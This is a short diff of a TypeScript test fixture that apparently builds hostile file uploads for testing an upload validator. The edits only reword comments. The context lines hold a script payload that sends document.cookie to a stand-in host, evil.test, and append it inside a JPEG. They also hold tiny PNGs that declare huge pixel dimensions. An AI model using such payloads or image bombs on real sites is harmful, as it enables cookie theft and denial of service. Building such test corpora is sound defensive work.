@@ -6,7 +6,7 @@ const text = (content: string) => Buffer.from(content, 'latin1');
 const file = (content: Buffer, name = 'IMG_0001.jpg', type = 'image/jpeg'): FormFile => ({ content, name, type });
 const half = (content: Buffer) => content.subarray(0, Math.floor(content.length / 2));
 
-/** The smallest archive there is, with nothing in it; a real JAR ends the same way. */
+/** The smallest possible archive, which is empty; a real JAR ends the same way. */
 const ZIP = Buffer.concat([text('PK\x05\x06'), Buffer.alloc(18)]);
 const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>';
 
@@ -18,7 +18,7 @@ function pngChunk(name: string, content: Buffer): Buffer {
   return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
 }
 
-/** A grey PNG of any size in a few bytes; `rows` says how many of its lines are really there. */
+/** A grey PNG of any size in a few bytes; `rows` is the number of lines it really contains. */
 function greyPng(width: number, height: number, rows: number): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -72,7 +72,7 @@ export async function uploadCorpus(): Promise<Record<string, FormFile[]>> {
     'markup across two pieces of the search': [
       file(Buffer.concat([jpeg, Buffer.alloc(512 * 1024 - jpeg.length - 4), text(SCRIPT)])),
     ],
-    // Whole, so that nothing but its size is against it.
+    // Complete, so that only its size is at fault.
     'a picture of 56 megapixels in a few bytes': [file(greyPng(8_000, 7_000, 7_000), 'a.png', 'image/png')],
     'the header of a picture of 900 megapixels': [file(greyPng(30_000, 30_000, 10), 'a.png', 'image/png')],
     HEIC: [file(text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), 'IMG_0001.HEIC', 'image/heic')],
